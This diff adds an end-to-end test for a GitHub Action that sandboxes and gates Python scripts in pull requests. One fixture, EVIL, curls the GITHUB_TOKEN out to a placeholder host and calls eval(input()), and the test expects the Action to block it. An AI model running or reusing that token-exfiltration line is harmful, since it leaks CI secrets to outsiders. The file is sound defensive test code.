@@ -1,0 +1,245 @@
+import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
+import { tmpdir } from 'node:os';
+import { join, resolve } from 'node:path';
+import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
+import { minimalEnv, tryRunCommand } from '../../../src/exec/run-command.js';
+import { type FakeGitHub, startFakeGitHub } from '../../helpers/fake-github.js';
+import { commitOnBranch, git, initRepo } from '../../helpers/git-fixture.js';
+import { ensureTestImage } from '../../helpers/test-image.js';
+
+/**
+ * The Action as it ships: the committed bundle `dist/index.js` runs as the runner
+ * would run it (INPUT_* and GITHUB_* environment, a real event payload, the
+ * GITHUB_OUTPUT and GITHUB_STEP_SUMMARY files), against the real Docker engine and
+ * Bandit, a real git workspace, a real bare repository for the audit branch, and a
+ * local stand-in for GitHub's API that checks each request against the OpenAPI
+ * description.
+ */
+const DIST = resolve('dist/index.js');
+const CLI = resolve('dist/cli.js');
+const REPO = 'octo-org/octo-repo';
+
+const BENIGN = `import json, os, statistics\nvalues = [3, 1, 4, 1, 5, 9, 2, 6]\nout = os.path.join(os.environ["AIRLOCK_OUTPUT_DIR"], "stats.json")\nwith open(out, "w") as f:\n    json.dump({"mean": statistics.mean(values)}, f)\nprint("mean", statistics.mean(values))\n`;
+const RISKY = `import urllib.request\ntry:\n    urllib.request.urlopen("https://example.com/x.csv", timeout=2)\nexcept OSError as e:\n    print("offline:", type(e).__name__)\n`;
+const EVIL = `import os, subprocess\nsubprocess.call("curl -d " + os.environ.get("GITHUB_TOKEN", "") + " http://x", shell=True)\neval(input())\n`;
+
+let root: string;
+let ws: string;
+let remote: string;
+let baseSha: string;
+let headSha: string;
+let keyPem: string;
+let publicKey: string;
+let fake: FakeGitHub;
+let image: string;
+
+function parseOutputs(text: string): Record<string, string> {
+  // @actions/core writes `name<<DELIM\nvalue\nDELIM\n`.
+  const out: Record<string, string> = {};
+  const re = /^([^\n<]+)<<(\S+)\n([\s\S]*?)\n\2$/gm;
+  for (const m of text.matchAll(re)) out[m[1]!] = m[3]!;
+  return out;
+}
+
+async function runAction(opts: {
+  event?: string;
+  inputs?: Record<string, string>;
+  payload?: unknown;
+}): Promise<{
+  exitCode: number | null;
+  stdout: string;
+  outputs: Record<string, string>;
+  summary: string;
+  report: any;
+}> {
+  const run = await mkdtemp(join(root, 'run-'));
+  const eventPath = join(run, 'event.json');
+  const outputFile = join(run, 'output');
+  const summaryFile = join(run, 'summary');
+  await writeFile(eventPath, JSON.stringify(opts.payload ?? prPayload()));
+  await writeFile(outputFile, '');
+  await writeFile(summaryFile, '');
+  const inputs: Record<string, string> = {
+    paths: 'analysis',
+    mode: 'gate',
+    image,
+    'signing-key': keyPem,
+    'audit-branch': 'airlock-audit',
+    token: fake.token,
+    'upload-sarif': 'true',
+    ...opts.inputs,
+  };
+  const env = minimalEnv({
+    GITHUB_ACTIONS: 'true',
+    GITHUB_EVENT_NAME: opts.event ?? 'pull_request',
+    GITHUB_EVENT_PATH: eventPath,
+    GITHUB_REPOSITORY: REPO,
+    GITHUB_SHA: headSha,
+    GITHUB_REF: 'refs/pull/7/merge',
+    GITHUB_WORKSPACE: ws,
+    GITHUB_API_URL: fake.url,
+    GITHUB_SERVER_URL: 'https://github.com',
+    GITHUB_RUN_ID: '4242',
+    GITHUB_RUN_ATTEMPT: '1',
+    GITHUB_ACTOR: 'octocat',
+    GITHUB_OUTPUT: outputFile,
+    GITHUB_STEP_SUMMARY: summaryFile,
+    RUNNER_TEMP: run,
+    AIRLOCK_AUDIT_REMOTE: remote,
+    // A secret of the runner's that must never reach a container.
+    AIRLOCK_TEST_RUNNER_SECRET: 'runner-secret-value-9f2c',
+    ...Object.fromEntries(Object.entries(inputs).map(([k, v]) => [`INPUT_${k.toUpperCase()}`, v])),
+  });
+  const r = await tryRunCommand(process.execPath, [DIST], { cwd: ws, env, timeoutMs: 600_000 });
+  const reportText = await readFile(join(ws, '.airlock/out/report.json'), 'utf8').catch(() => 'null');
+  return {
+    exitCode: r.exitCode,
+    stdout: r.stdout + r.stderr,
+    outputs: parseOutputs(await readFile(outputFile, 'utf8')),
+    summary: await readFile(summaryFile, 'utf8'),
+    report: JSON.parse(reportText),
+  };
+}
+
+function prPayload() {
+  return {
+    action: 'synchronize',
+    number: 7,
+    pull_request: {
+      number: 7,
+      head: { sha: headSha, ref: 'feature', repo: { full_name: REPO, fork: false } },
+      base: { sha: baseSha, ref: 'main', repo: { full_name: REPO, fork: false } },
+    },
+    repository: { full_name: REPO, name: 'octo-repo', owner: { login: 'octo-org' } },
+  };
+}
+
+async function leftoverContainers(): Promise<string> {
+  const r = await tryRunCommand('docker', ['ps', '-aq', '--filter', 'label=org.airlock.sandbox']);
+  return r.stdout.trim();
+}
+
+beforeAll(async () => {
+  image = await ensureTestImage();
+  root = await mkdtemp(join(tmpdir(), 'airlock-e2e-'));
+  ws = join(root, 'ws');
+  remote = join(root, 'remote.git');
+  await tryRunCommand('git', ['init', '-q', '--bare', remote]);
+  baseSha = await initRepo(ws, {
+    'analysis/old_plot.py': BENIGN,
+    'analysis/data.csv': 'a,b\n1,2\n',
+    'README.md': '# fixture\n',
+  });
+  headSha = await commitOnBranch(ws, 'feature', {
+    'analysis/new_stats.py': BENIGN,
+    'analysis/risky_fetch.py': RISKY,
+    'analysis/evil.py': EVIL,
+    'analysis/notes.txt': 'not python\n',
+  });
+  const keys = join(root, 'keys');
+  const kg = await tryRunCommand(process.execPath, [CLI, 'audit', 'keygen', '--out', keys]);
+  expect(kg.exitCode).toBe(0);
+  keyPem = await readFile(join(keys, 'private.pem'), 'utf8');
+  publicKey = join(keys, 'public.pem');
+  fake = await startFakeGitHub({ repository: REPO });
+});
+
+afterEach(() => {
+  fake.assertNoViolations();
+  fake.reset();
+});
+
+afterAll(async () => {
+  await fake?.close();
+  await rm(root, { recursive: true, force: true });
+});
+
+describe('the Action on a pull request', () => {
+  it('gates only the changed scripts, uploads SARIF, writes the summary and outputs, commits the audit log, and fails on the blocked script', async () => {
+    const r = await runAction({});
+    expect(r.exitCode, r.stdout).toBe(1);
+
+    // Only what the PR brings: not old_plot.py (unchanged), not notes.txt (not Python).
+    const byPath = Object.fromEntries(r.report.scripts.map((s: any) => [s.path, s]));
+    expect(Object.keys(byPath).sort()).toEqual([
+      'analysis/evil.py',
+      'analysis/new_stats.py',
+      'analysis/risky_fetch.py',
+    ]);
+    expect(byPath['analysis/evil.py'].level).toBe('blocked');
+    expect(byPath['analysis/evil.py'].decision).toBe('blocked');
+    expect(byPath['analysis/risky_fetch.py'].level).toBe('high');
+    expect(byPath['analysis/new_stats.py'].level).toBe('low');
+    expect(byPath['analysis/new_stats.py'].execution.status).toBe('success');
+    expect(byPath['analysis/new_stats.py'].execution.artifacts.map((a: any) => a.path)).toEqual([
+      'stats.json',
+    ]);
+
+    // SARIF uploaded once, for the PR's ref, in a request the OpenAPI description accepts.
+    expect(fake.uploads).toHaveLength(1);
+    const up = fake.uploads[0]!;
+    expect(up.commitSha).toBe(headSha);
+    expect(up.ref).toMatch(/^refs\/pull\/7\/(merge|head)$/);
+    const uris = (up.sarif.runs ?? []).flatMap((run: any) =>
+      (run.results ?? []).map((res: any) => res.locations[0].physicalLocation.artifactLocation.uri),
+    );
+    expect(uris).toContain('analysis/evil.py');
+
+    // Outputs and the job summary.
+    expect(r.outputs.verdict).toBe('fail');
+    expect(r.outputs['blocked-count']).toBe('1');
+    expect(r.outputs['high-count']).toBe('1');
+    expect(r.outputs['low-count']).toBe('1');
+    expect(r.outputs['image-id']).toMatch(/^sha256:/);
+    expect(r.outputs['audit-checkpoint']).toContain(`github.com/${REPO}/airlock-audit`);
+    expect(r.summary).toContain('| `analysis/evil.py` |');
+    expect(r.summary).toContain('blocked');
+
+    // The audit branch of the "remote" holds a log that verifies with the public key.
+    const clone = join(root, 'audit-clone');
+    await git(root, ['clone', '-q', '--branch', 'airlock-audit', remote, clone]);
+    const verify = await tryRunCommand(process.execPath, [
+      CLI,
+      'audit',
+      'verify',
+      join(clone, 'audit/log.jsonl'),
+      '--public-key',
+      publicKey,
+    ]);
+    expect(verify.exitCode, verify.stdout + verify.stderr).toBe(0);
+    const log = await readFile(join(clone, 'audit/log.jsonl'), 'utf8');
+    expect(log).toContain('"kind":"execution"');
+    expect(log).toContain('analysis/evil.py');
+
+    // The runner's secrets never reached a container, and no container is left.
+    expect(JSON.stringify(r.report)).not.toContain('runner-secret-value-9f2c');
+    expect(await leftoverContainers()).toBe('');
+  });
+
+  it('passes when fail-on leaves out blocked, and still reports the block', async () => {
+    const r = await runAction({ inputs: { 'fail-on': 'failure,timeout,oom,error', 'audit-branch': '' } });
+    expect(r.exitCode, r.stdout).toBe(0);
+    expect(r.outputs.verdict).toBe('pass');
+    expect(r.outputs['blocked-count']).toBe('1');
+  });
+
+  it('carries on when the token may not upload SARIF (fork pull request)', async () => {
+    fake.failNext('code-scanning/upload-sarif', {
+      status: 403,
+      message: 'Resource not accessible by integration',
+    });
+    const r = await runAction({ inputs: { 'fail-on': 'failure', 'audit-branch': '' } });
+    expect(r.exitCode, r.stdout).toBe(0);
+    expect(r.stdout).toMatch(/SARIF not uploaded/);
+    expect(fake.uploads).toHaveLength(0);
+  });
+
+  it('refuses pull_request_target with the PR head checked out, before running anything', async () => {
+    await rm(join(ws, '.airlock'), { recursive: true, force: true });
+    const r = await runAction({ event: 'pull_request_target' });
+    expect(r.exitCode).toBe(1);
+    expect(r.stdout).toContain('UNSAFE_TRIGGER');
+    expect(r.report).toBeNull();
+    expect(fake.uploads).toHaveLength(0);
+  });
+});
